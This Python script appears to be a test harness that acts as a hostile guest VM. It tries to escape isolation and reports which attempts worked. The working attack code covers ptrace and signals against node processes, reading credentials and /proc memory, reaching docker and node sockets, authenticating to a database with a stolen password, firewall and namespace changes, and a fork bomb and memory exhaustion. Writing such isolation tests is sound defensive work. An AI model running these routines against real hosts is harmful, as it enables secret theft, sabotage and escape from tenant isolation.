"""A hostile VM: tries what a guest could do to its node, its neighbours and the cluster, and tells what worked.

    hostile.py attack           every attack once; prints one JSON object: {"about": ..., "attacks": {name: outcome}}
    hostile.py fork-bomb        as many processes as it gets, for some seconds, orphans for PID 1 to reap among them
    hostile.py eat-memory       a child that takes memory until the kernel ends it
    hostile.py burn             two processes that only calculate, for three seconds

An outcome says `worked`, `refused` (by the kernel, or because there is nothing to see), or `no target`, and how. It
then sleeps, so that its VM stays Online. HOSTILE_IN_EARNEST=1: its signals are deadly. HOSTILE_NEIGHBOUR=NAME:UID
is another VM of the node, HOSTILE_VOTERS=ADDRESS,... the voters elsewhere. Standard library only.
"""

import contextlib
import ctypes
import errno
import fcntl
import json
import os
import resource
import signal
import socket
import stat
import struct
import subprocess
import sys
import time

NODE_USERS = {"init": 899, "service": 900, "voter": 901, "vmms": 902, "resource-host": 903}
SECRETS = ("voter-password", "voter-node1.acl", "api-token")
VOTER_PORT = 637
NODE_PORTS = (VOTER_PORT, 80, 443, 1023)
DEADLY = (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL)
HARMLESS = (signal.SIGWINCH,)
SET_USER_ID_PYTHON = "/usr/local/bin/python-of-root"
CONNECT_LIMIT_S = 1.0
BOMB_S = 6.0
BURN_S = 3.0
LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x10000000, 0x40000000
SIOCSIFADDR = 0x8916


class NoTarget(Exception):
    """What is to be attacked is not there, so that nothing is proved."""


def processes(*, dead_too: bool = False) -> dict[int, list[int]]:
    """Every living process of the namespace, by real user; the limit counts the unburied as well."""
    found: dict[int, list[int]] = {}
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{name}/status", encoding="utf-8") as file:
                fields = dict(line.split(":", 1) for line in file if ":" in line)
        except OSError:
            continue
        if dead_too or fields["State"].split()[0] not in "ZX":
            found.setdefault(int(fields["Uid"].split()[0]), []).append(int(name))
    return found


def neighbour() -> tuple[str, int]:
    """The other VM's name and user."""
    name, _, user = os.environ.get("HOSTILE_NEIGHBOUR", "").partition(":")
    return name, int(user or 0)


def victims() -> dict[str, int]:
    """A process id for each part of the node, and for the other VM."""
    by_user = processes()
    wanted = {**NODE_USERS, "another-vm": neighbour()[1]}
    return {role: min(by_user[user]) for role, user in wanted.items() if by_user.get(user)}


def victim(role: str) -> int:
    try:
        return victims()[role]
    except KeyError:
        raise NoTarget(f"no process of {role}") from None


def called(result: int) -> int:
    """The result of a call of libc. Raises OSError."""
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def any_of(*attempts) -> str:
    """Try all; how the ones that worked did. Raises the first refusal when none does."""
    worked, refusals = [], []
    for name, attempt in attempts:
        try:
            attempt()
            worked.append(name)
        except OSError as error:
            refusals.append(error)
    if worked:
        return ", ".join(worked)
    if not refusals:
        raise NoTarget("nothing to try")
    raise refusals[0]


def in_a_child(attack):
    """Run it in a process of its own, so that what it changes about itself goes with it."""

    def run() -> str:
        read, write = os.pipe()
        child = os.fork()
        if child == 0:
            try:
                said = ["worked", str(attack())]
            except OSError as error:
                said = ["refused", str(error.errno or 0), str(error)]
            except NoTarget as error:
                said = ["no target", str(error)]
            os.write(write, json.dumps(said).encode())
            os._exit(0)
        os.close(write)
        with open(read, encoding="utf-8") as file:
            said = json.loads(file.read() or '["refused", "0", "the child was killed"]')
        os.waitpid(child, 0)
        if said[0] == "no target":
            raise NoTarget(said[1])
        if said[0] == "refused":
            raise OSError(int(said[1]), said[2])
        return said[1]

    return run


# Against one process.


def send_signals(role: str) -> str:
    pid = victim(role)
    signals = DEADLY if os.environ.get("HOSTILE_IN_EARNEST") else HARMLESS
    return any_of(*((number.name, lambda number=number: os.kill(pid, number)) for number in signals))


def look_inside(role: str) -> str:
    place = f"/proc/{victim(role)}"

    def read(name: str):
        return lambda: open(f"{place}/{name}", "rb").read(1)

    return any_of(
        ("environ", read("environ")),
        ("maps", read("maps")),
        ("mem", lambda: open(f"{place}/mem", "rb").close()),
        ("fd", lambda: [os.readlink(f"{place}/fd/{name}") for name in os.listdir(f"{place}/fd")]),
        ("root", lambda: os.listdir(f"{place}/root/")),
        ("cwd", lambda: os.readlink(f"{place}/cwd")),
    )


def trace(role: str) -> str:
    pid = victim(role)
    called(LIBC.ptrace(PTRACE_SEIZE, pid, None, None))
    return "seized"


def raise_oom_score(role: str) -> str:
    path = f"/proc/{victim(role)}/oom_score_adj"
    with open(path, encoding="utf-8") as file:
        before = file.read()
    with open(path, "w", encoding="utf-8") as file:
        file.write("1000")
    with open(path, "w", encoding="utf-8") as file:
        file.write(before)
    return "1000"


def slow_down(role: str) -> str:
    pid = victim(role)
    return any_of(
        ("limits", lambda: resource.prlimit(pid, resource.RLIMIT_CORE, (0, 0))),
        ("priority", lambda: os.setpriority(os.PRIO_PROCESS, pid, os.getpriority(os.PRIO_PROCESS, pid))),
        ("processors", lambda: os.sched_setaffinity(pid, os.sched_getaffinity(pid))),
    )


# Against the node.


def views() -> list[str]:
    """The file system as each process of the node sees it, and as this one does."""
    return ["", *(f"/proc/{pid}/root" for pid in victims().values())]


def read_secrets() -> str:
    return any_of(
        *(
            (f"{view}/run/secrets/{name}", lambda path=f"{view}/run/secrets/{name}": open(path, "rb").read(1))
            for view in views()
            for name in SECRETS
        )
    )


def connect_to(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as end:
        end.settimeout(CONNECT_LIMIT_S)
        end.connect(path)


def reach_engine() -> str:
    paths = [f"{view}{path}" for view in views() for path in ("/var/run/docker.sock", "/run/docker.sock")]
    return any_of(*((path, lambda path=path: connect_to(path)) for path in paths))


def reach_sockets() -> str:
    paths = [f"{view}/run/blackstart/{name}.sock" for view in views() for name in ("service", "vmms")]
    with open("/proc/net/unix", encoding="utf-8") as file:
        paths += ["\0" + line.split()[-1][1:] for line in file if line.split()[-1].startswith("@")]
    return any_of(*((path, lambda path=path: connect_to(path)) for path in paths))


def connect_to_voter() -> str:
    addresses = ["127.0.0.1", *filter(None, os.environ.get("HOSTILE_VOTERS", "").split(","))]

    def connect(address: str):
        return lambda: socket.create_connection((address, VOTER_PORT), timeout=CONNECT_LIMIT_S).close()

    return any_of(*((address, connect(address)) for address in addresses))


def write_to_database() -> str:
    """With the password, if it can be had, under the voter's name, and as the service, if one can become it."""
    voter_name, password = os.environ.get("BLACKSTART_NODE", "node1"), "guessed"
    for view in views():
        try:
            with open(f"{view}/run/secrets/voter-password", encoding="utf-8") as file:
                password = file.read().strip()
        except OSError:
            continue
    with contextlib.suppress(OSError):
        os.setresuid(900, 900, 900)
    with socket.create_connection(("127.0.0.1", VOTER_PORT), timeout=CONNECT_LIMIT_S) as voter:
        voter.sendall(f"AUTH {voter_name} {password}\r\nSET hostile 1\r\nDEL hostile\r\nQUIT\r\n".encode())
        said = b""
        while part := voter.recv(4096):
            said += part
    if not said.startswith(b"+OK\r\n+OK\r\n"):
        raise OSError(errno.EACCES, said.decode(errors="replace"))
    return "SET hostile 1"


def take_port() -> str:
    def bind(port: int):
        def attempt() -> None:
            with socket.socket() as listener:
                try:
                    listener.bind(("127.0.0.1", port))
                except OSError as error:
                    if error.errno != errno.EADDRINUSE:  # in use is not forbidden: it comes free some day
                        raise

        return attempt

    return any_of(*((str(port), bind(port)) for port in NODE_PORTS))


def open_raw_sockets() -> str:
    def make(*kind: int):
        return lambda: socket.socket(*kind).close()

    return any_of(
        ("icmp", make(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
        ("tcp", make(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)),
        ("packet", make(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))),
    )


def change_addresses() -> str:
    address = struct.pack("16sHH4s8x", b"lo:9", socket.AF_INET, 0, socket.inet_aton("127.9.9.9"))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        fcntl.ioctl(any_socket, SIOCSIFADDR, address)
    return "127.9.9.9 on lo:9"


def change_firewall() -> str:
    """A table of nftables, as one batch over netlink; the kernel answers each message that asks for it."""

    def message(kind: int, flags: int, number: int, family: int, body: bytes) -> bytes:
        payload = struct.pack(">BBH", family, 0, 10 if kind in (16, 17) else 0) + body
        return struct.pack("=IHHII", 16 + len(payload), kind, flags, number, 0) + payload

    name = struct.pack("=HH8s", 12, 1, b"hostile\0")
    batch = message(16, 1, 1, 0, b"") + message(0xA00, 0x405, 2, 2, name) + message(17, 1, 3, 0, b"")
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as netfilter:
        netfilter.settimeout(CONNECT_LIMIT_S)
        netfilter.bind((0, 0))
        netfilter.send(batch)
        answer = netfilter.recv(4096)
    kind, code = struct.unpack_from("=4xH10xi", answer)
    if kind != 2 or code:
        raise OSError(-code, os.strerror(-code))
    return "table hostile"


def become_somebody() -> str:
    return any_of(
        ("service", lambda: os.setresuid(900, 900, 900)),
        ("root", lambda: os.setresuid(0, 0, 0) if os.getuid() else os.setresuid(901, 901, 901)),
        ("node's group", lambda: os.setgroups([910])),
    )


def use_set_user_id_file() -> str:
    """A file of the image that belongs to root and runs as root."""
    done = subprocess.run(
        [SET_USER_ID_PYTHON, "-I", "-c", "import os; print(os.geteuid(), os.getuid())"],
        capture_output=True,
        text=True,
        check=False,
    )
    if not done.stdout.startswith("0 "):
        raise OSError(errno.EPERM, done.stdout + done.stderr)
    return done.stdout.strip()


def leave_namespaces() -> str:
    def enter() -> None:
        with open(f"/proc/{victim('init')}/ns/mnt", "rb") as place:
            called(LIBC.setns(place.fileno(), CLONE_NEWNS))

    return any_of(
        ("node's files", in_a_child(enter)),
        ("mount", in_a_child(lambda: called(LIBC.mount(b"none", b"/mnt", b"tmpfs", 0, None)))),
        ("user", in_a_child(lambda: called(LIBC.unshare(CLONE_NEWUSER)))),
        ("network", in_a_child(lambda: called(LIBC.unshare(CLONE_NEWNET)))),
    )


def change_kernel_settings() -> str:
    path = "/proc/sys/net/ipv4/ip_unprivileged_port_start"
    with open(path, encoding="utf-8") as file:
        before = file.read()
    with open(path, "w", encoding="utf-8") as file:
        file.write(before)
    return path


def make_device() -> str:
    os.mknod("/tmp/hostile", stat.S_IFBLK | 0o666, os.makedev(8, 0))
    os.unlink("/tmp/hostile")
    return "8:0"


def touch_another_vms_files() -> str:
    name, user = neighbour()
    others = processes().get(user)
    if not others:
        raise NoTarget("no process of another VM")
    places = [f"{view}/csv/{name}" for view in views()] + [f"/disk/../{name}", f"/disk/../../{name}"]

    def append(path: str, *, remove: bool):
        def attempt() -> None:
            os.close(os.open(path, os.O_WRONLY | os.O_APPEND | (os.O_CREAT if remove else 0)))
            if remove:
                os.unlink(path)

        return attempt

    attempts = [(f"{place}/config.json", append(f"{place}/config.json", remove=False)) for place in places]
    attempts += [(f"{place}/disk", append(f"{place}/disk/hostile", remove=True)) for place in places]
    attempts.append(("its own view", append(f"/proc/{others[0]}/root/disk/hostile", remove=True)))
    return any_of(*attempts)


def attacks():
    """Every attack by name."""
    against_one = {
        "signal": send_signals,
        "look inside": look_inside,
        "trace": trace,
        "raise the oom score of": raise_oom_score,
        "slow down": slow_down,
    }
    for what, attack in against_one.items():
        for role in (*NODE_USERS, "another-vm"):
            yield f"{what} {role}", in_a_child(lambda attack=attack, role=role: attack(role))
    yield "read the node's secrets", read_secrets
    yield "reach the engine", reach_engine
    yield "reach the node's sockets", reach_sockets
    yield "connect to a voter", connect_to_voter
    yield "write to the database", in_a_child(write_to_database)
    yield "take a port of the node", take_port
    yield "open raw sockets", open_raw_sockets
    yield "change addresses", change_addresses
    yield "change the firewall", change_firewall
    yield "become somebody else", in_a_child(become_somebody)
    yield "use a set-user-id file", use_set_user_id_file
    yield "leave its namespaces", leave_namespaces
    yield "change the kernel's settings", change_kernel_settings
    yield "make a device", make_device
    yield "touch another VM's files", touch_another_vms_files


def outcome(attack) -> dict[str, str]:
    try:
        return {"outcome": "worked", "how": attack()}
    except NoTarget as error:
        return {"outcome": "no target", "how": str(error)}
    except OSError as error:
        return {"outcome": "refused", "how": f"{type(error).__name__}: {error}"}


def attack_everything() -> None:
    with open("/proc/self/status", encoding="utf-8") as file:
        status = dict(line.strip().split(":\t", 1) for line in file if ":\t" in line)
    keys = ("Uid", "Gid", "Groups", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp")
    about = {key: status[key].split() for key in keys}
    tell(about=about, attacks={name: outcome(attack) for name, attack in attacks()})


# Against the limits.


def fork_bomb() -> None:
    ends = time.monotonic() + BOMB_S
    refused, most = "", 0
    children: list[int] = []
    while time.monotonic() < ends:
        most = max(most, len(processes(dead_too=True)[os.getuid()]))
        try:
            child = os.fork()
        except OSError as error:
            refused = errno.errorcode[error.errno or 0]
            children = [one for one in children if os.waitpid(one, os.WNOHANG) == (0, 0)]
            continue
        if child == 0:
            child_of_the_bomb(ends)
        children.append(child)
    tell(most=most, refused=refused)
    for one in children:
        os.kill(one, signal.SIGKILL)


def child_of_the_bomb(ends: float) -> None:
    """Forks on, and leaves orphans."""
    while time.monotonic() < ends:
        try:
            if os.fork() == 0:
                os._exit(0)
        except OSError:
            break
    time.sleep(max(0.0, min(0.5, ends - time.monotonic())))
    os._exit(0)


def eat_memory() -> None:
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        eaten = []
        while True:
            eaten.append(bytearray(os.urandom(1 << 20)))
            os.write(write, b".")
    os.close(write)
    mebibytes = 0
    while part := os.read(read, 4096):
        mebibytes += len(part)
    _, status = os.waitpid(child, 0)
    tell(mebibytes=mebibytes, signal=os.WTERMSIG(status))


def burn() -> None:
    children = []
    for _ in range(2):
        child = os.fork()
        if child == 0:
            while True:
                pass
        children.append(child)
    time.sleep(BURN_S)
    for child in children:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
    used = resource.getrusage(resource.RUSAGE_CHILDREN)
    tell(processors=(used.ru_utime + used.ru_stime) / BURN_S)


def tell(**said: object) -> None:
    print(json.dumps(said), flush=True)


MODES = {"attack": attack_everything, "fork-bomb": fork_bomb, "eat-memory": eat_memory, "burn": burn}

if __name__ == "__main__":
    MODES[sys.argv[1]]()
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
    while True:
        signal.pause()
